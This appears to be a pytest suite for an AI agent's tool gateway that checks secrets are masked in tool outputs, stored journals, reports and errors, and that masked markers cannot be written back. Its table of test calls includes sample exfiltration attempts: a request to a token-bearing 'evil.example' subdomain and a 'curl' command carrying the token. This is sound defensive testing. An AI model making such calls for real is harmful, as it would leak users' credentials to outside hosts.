"""Step 6: a secret is masked before anybody sees it, on the way in and out, and never comes back in."""

from __future__ import annotations

import hmac
import json
from base64 import b64encode
from collections.abc import Mapping
from hashlib import sha256
from pathlib import Path
from typing import NoReturn

import pytest
from gated import MARK, TOKEN, bodies, code, everything_stored, gate_of, grown, kinds, made, read, tree, write

from capsule.calls import Context, Source, ToolCall, ToolResult
from capsule.canon import Json, canonical
from capsule.errors import ToolError
from capsule.gate import now_ms, open_journal
from capsule.report import Report

POLICY = """
rules:
  - {id: docs, action: allow, tool: [fs.read, fs.list], constraints: {path: {pattern: ./docs/**}}}
  - {id: plain, action: allow, tool: fs.read, redact: "off", constraints: {path: {pattern: ./plain/*}}}
  - {id: out, action: allow, tool: fs.write, constraints: {path: {pattern: "./out/*"}}}
  - {id: web, action: allow, tool: http.get, constraints: {url: {domains: [example.com]}, headers: {type: object}}}
  - {id: git, action: allow, tool: shell.run, constraints: {command: {executables: [git]}, env: {type: object}}}
"""
MADE = "rules: [{action: allow, tool: made.tool}]"
LINE = f"key = {TOKEN}"


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    return grown(
        tmp_path.resolve() / "ws",
        docs__key=LINE,
        docs__large="x" * 20_000 + LINE,
        docs__two=f"{TOKEN} {TOKEN[:-1]}9 {TOKEN}",
        docs__clean="nothing",
        plain__key=LINE,
        out__old="old",
    )


def _mac(home: Path, value: Json) -> str:
    return hmac.new((home / ".capsule/key").read_bytes(), canonical(value), sha256).hexdigest()


def test_a_token_in_a_file_appears_nowhere(workdir: Path, db: Path, isolated_home: Path) -> None:
    with gate_of(workdir, POLICY) as gate:
        result = gate.call(read("docs/key"))
    output: dict[str, Json] = {
        "path": "docs/key",
        "content": f"key = {MARK}",
        "encoding": "utf-8",
        "size": len(LINE),
        "sha256": None,
        "truncated": False,
        "next_offset": None,
    }
    assert result.output == output
    (finding,) = result.findings
    assert (finding.type, finding.line, finding.column, finding.length) == ("github_token", 1, 7, len(TOKEN))
    (outcome,) = bodies(db, "outcome")
    assert outcome["output"] == output
    assert outcome["findings"] == [finding.as_json()]
    raw: dict[str, Json] = {**output, "content": LINE, "sha256": sha256(LINE.encode()).hexdigest()}
    assert outcome["raw_mac"] == _mac(isolated_home, raw)
    _appears_nowhere(db, result)


def _appears_nowhere(db: Path, *results: ToolResult) -> None:
    store = open_journal(db)
    (run,) = store.runs(limit=1)
    report = Report(store, store.run(run.run_id), generated_ms=now_ms())
    shown = json.dumps([report.head(), *report.steps, report.summary()], ensure_ascii=False).encode()
    for form in (TOKEN.encode(), *(b64encode(pad + TOKEN.encode())[4:40] for pad in (b"", b"k", b"ke"))):
        assert form not in everything_stored(db)
        assert form not in shown
        assert form not in "".join(map(str, results)).encode()


@pytest.mark.parametrize("more", [{"encoding": "base64"}, {"offset": 4}, {"length": len(LINE)}, {"encoding": "utf-8"}])
@pytest.mark.parametrize("name", ["key", "large", "two"])
def test_however_it_is_read(workdir: Path, db: Path, name: str, more: dict[str, Json]) -> None:
    """Of a large file the output lies compressed in a place of its own."""
    if name != "key" and "length" in more:
        more = {"length": 1_000_000}
    with gate_of(workdir, POLICY) as gate:
        result = gate.call(ToolCall(tool="fs.read", args={"path": f"docs/{name}", **more}))
    assert result.ok
    assert isinstance(result.output, Mapping)
    assert result.output["sha256"] is None
    assert "raw_mac" in bodies(db, "outcome")[0]
    _appears_nowhere(db, result)


def test_the_same_secret_has_the_same_number(workdir: Path) -> None:
    with gate_of(workdir, POLICY) as gate:
        output = gate.call(read("docs/two")).output
    assert isinstance(output, Mapping)
    assert output["content"] == f"{MARK} {MARK.replace('1', '2')} {MARK}"


def test_what_holds_nothing_stays_as_it_is(workdir: Path, db: Path) -> None:
    with gate_of(workdir, POLICY) as gate:
        result = gate.call(read("docs/clean"))
    assert isinstance(result.output, Mapping)
    assert result.output["sha256"] == sha256(b"nothing").hexdigest()
    assert "raw_mac" not in bodies(db, "outcome")[0]
    assert result.findings == ()


def test_a_rule_can_read_in_the_clear_but_not_where_another_forbids_it(workdir: Path) -> None:
    layer = POLICY.replace("./plain/*", "./docs/plain").replace("./docs/**", "./**")
    for layers, masked in (((POLICY,), False), ((POLICY, layer), True)):
        with gate_of(workdir, *layers) as gate:
            result = gate.call(read("plain/key"))
            assert (TOKEN in str(result.output)) is not masked
            assert result.findings


BEARER = "Bearer " + TOKEN[4:30] + "x1"

CALLS: dict[str, ToolCall] = {
    "a path": read(f"docs/{TOKEN}"),
    "a path of no rule": read(f"other/{TOKEN}"),
    "a wrong argument": read("docs/clean", encoding=TOKEN),
    "an unknown argument": ToolCall(tool="fs.read", args={"path": "docs/clean", TOKEN: 1}),
    "no argument at all": ToolCall(tool="fs.read", args={TOKEN: TOKEN}),
    "no JSON": ToolCall(tool="fs.read", args={"path": [TOKEN, "\udcff"]}),
    "a tool": ToolCall(tool=TOKEN),
    "a content": write("out/new", LINE),
    "a content as base64": write("out/new", b64encode(LINE.encode()).decode(), encoding="base64"),
    "a name that is written": write(f"out/{TOKEN}"),
    "a pattern": ToolCall(tool="fs.list", args={"path": "docs", "pattern": f"*{TOKEN}*"}),
    "a URL": ToolCall(tool="http.get", args={"url": f"https://example.com/?token={TOKEN}"}),
    "a URL's password": ToolCall(tool="http.get", args={"url": f"https://me:{TOKEN}@example.com/"}),
    "a host": ToolCall(tool="http.get", args={"url": f"https://{TOKEN}.evil.example/"}),
    "a header": ToolCall(tool="http.get", args={"url": "https://example.com", "headers": {"Authorization": BEARER}}),
    "an odd header": ToolCall(tool="http.get", args={"url": "https://example.com", "headers": {"X-Key": TOKEN}}),
    "a command": ToolCall(tool="shell.run", args={"command": ["git", "clone", f"https://{TOKEN}@example.com/x"]}),
    "a command of no rule": ToolCall(tool="shell.run", args={"command": ["curl", TOKEN]}),
    "an environment": ToolCall(tool="shell.run", args={"command": ["git"], "env": {"TOKEN": TOKEN}}),
    "standard input": ToolCall(tool="shell.run", args={"command": ["git"], "stdin": TOKEN}),
}


@pytest.mark.parametrize("name", CALLS)
def test_e2_a_secret_in_a_call_reaches_neither_disk_nor_answer(workdir: Path, db: Path, name: str) -> None:
    with gate_of(workdir, POLICY) as gate:
        result = gate.call(CALLS[name])
    first = next(record for record in ("intent", "refused") if record in kinds(db))
    stored = everything_stored(db)
    for secret in (TOKEN, BEARER.removeprefix("Bearer "), b64encode(LINE.encode()).decode()[12:40]):
        if name == "a content as base64" and secret != TOKEN:
            continue  # base64 in text is text: only a tool that says so has it opened
        assert secret.encode() not in stored
    assert TOKEN not in str(result).replace(str(result.output), "")
    assert "raw_mac" in bodies(db, first)[0] or name == "a content as base64"


def test_what_is_written_is_the_real_value(workdir: Path) -> None:
    """Only records are masked; the file gets what the caller said."""
    with gate_of(workdir, POLICY) as gate:
        assert gate.call(write("out/new", LINE)).ok
    assert (workdir / "out/new").read_text() == LINE


@pytest.mark.parametrize("hint", [None, f"use {TOKEN}"])
@pytest.mark.parametrize("kind", ["expected", "unexpected", "flag"])
def test_e2_what_a_tool_raises_is_masked_too(workdir: Path, db: Path, kind: str, hint: str | None) -> None:
    def act(args: Mapping[str, Json], context: Context) -> NoReturn:
        if kind == "flag":
            context.flag(TOKEN)
        raise ToolError(2003, f"with {TOKEN}", hint=hint) if kind == "expected" else RuntimeError(TOKEN)

    with gate_of(workdir, MADE, tool=made(act)) as gate:
        result = gate.call(ToolCall(tool="made.tool"))
    _appears_nowhere(db, result)


def test_what_is_returned_is_the_record_marker_by_marker(workdir: Path, db: Path) -> None:
    """Also where several secrets stand in one refusal: their numbers agree."""
    other = TOKEN[:-1] + "9"
    with gate_of(workdir, POLICY) as gate:
        results = [
            gate.call(ToolCall(tool="fs.read", args={"path": f"other/{TOKEN}", "encoding": other})),
            gate.call(read(f"other/{TOKEN}/{other}")),
            gate.call(ToolCall(tool=other, args={"path": TOKEN})),
        ]
    for result, body in zip(results, bodies(db, "refused"), strict=True):
        error = body["error"]
        assert isinstance(error, Mapping)
        assert result.error is not None
        assert (error["message"], error.get("hint")) == (result.error.message, result.error.hint)


def test_the_policy_as_it_is_recorded_holds_no_secret(workdir: Path, db: Path, isolated_home: Path) -> None:
    with gate_of(workdir, POLICY + f"description: the key is {TOKEN}") as gate:
        gate.call(read("docs/clean"))
    assert TOKEN.encode() not in everything_stored(db)
    assert "raw_mac" in bodies(db, "start")[0]


MARKED: dict[str, ToolCall] = {
    "content": write("out/new", f"key = {MARK}"),
    "content of another number and case": write("out/new", "⟦REDACTED:anything:77⟧"),
    "content as base64": write("out/new", b64encode(f"k {MARK}".encode()).decode(), encoding="base64"),
    "content as a URL would write it": write("out/new", "%E2%9F%A6redacted%3Agithub_token%3A1%E2%9F%A7"),
    "content as JSON would write it": write("out/new", json.dumps({"key": MARK})),
    "appended": write("out/old", MARK, mode="append"),
    "overwritten": write("out/old", MARK, mode="overwrite"),
    "path": write(f"out/{MARK}"),
    "read path": read(f"docs/{MARK}"),
    "url": ToolCall(tool="http.get", args={"url": f"https://example.com/?k={MARK}"}),
    "header": ToolCall(tool="http.get", args={"url": "https://example.com", "headers": {"x": MARK}}),
    "header name": ToolCall(tool="http.get", args={"url": "https://example.com", "headers": {MARK: "x"}}),
    "command": ToolCall(tool="shell.run", args={"command": ["git", MARK]}),
    "env": ToolCall(tool="shell.run", args={"command": ["git"], "env": {"K": MARK}}),
    "stdin": ToolCall(tool="shell.run", args={"command": ["git"], "stdin": MARK}),
}


@pytest.mark.parametrize("name", MARKED)
def test_a_masked_value_cannot_be_used(workdir: Path, db: Path, name: str) -> None:
    before = tree(workdir)
    with gate_of(workdir, POLICY) as gate:
        result = gate.call(MARKED[name])
    assert (result.status, code(result)) == ("denied", 1009)
    assert result.error is not None
    assert result.error.hint is not None
    assert "redact: off" in result.error.hint
    assert kinds(db) == ["start", "refused", "end"]
    assert tree(workdir) == before


def test_copying_what_was_read_does_not_destroy_it(workdir: Path) -> None:
    """The rule's purpose: a file with a secret, read and written back, would lose it."""
    before = tree(workdir)
    policy = POLICY.replace('"./out/*"', '"./docs/*"')
    with gate_of(workdir, policy) as gate:
        output = gate.call(read("docs/key", source=Source.AGENT)).output
        assert isinstance(output, Mapping)
        content = str(output["content"])
        for mode in ("overwrite", "append"):
            assert code(gate.call(write("docs/key", content, mode=mode))) == 1009
    assert tree(workdir) == before
